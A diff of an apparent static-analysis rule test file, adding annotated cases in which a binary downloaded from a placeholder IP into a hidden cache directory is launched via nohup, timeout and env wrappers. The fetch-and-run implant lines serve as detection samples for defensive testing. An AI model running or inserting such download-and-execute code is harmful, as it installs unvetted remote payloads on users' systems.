@@ -678,6 +678,14 @@ _implant = os.path.join(os.path.expanduser("~/.cache/.fc"), "fc-helper")
 _fetch_to("http://203.0.113.19/bins/x", _implant)
 # ruleid: run-written-file, subprocess-call, process-partial-path-list
 subprocess.Popen([_implant, "--daemon"], start_new_session=True)
+# behind a launcher: nohup, timeout 30, env VAR=value
+# ruleid: run-written-file, subprocess-call, process-partial-path-list
+subprocess.Popen(["nohup", _implant, "--silent"])
+# ruleid: run-written-file, subprocess-call, process-partial-path-list
+subprocess.run(["timeout", "30", "env", "MODE=bg", "bash", helper])
+# ok: run-written-file
+# ruleid: subprocess-call, process-partial-path-list
+subprocess.run(["git", "add", helper])
 # a parameter reads as what the function's one call passes
 def _cleaner(root):
     # ruleid: destructive-command, subprocess-call, process-partial-path-list
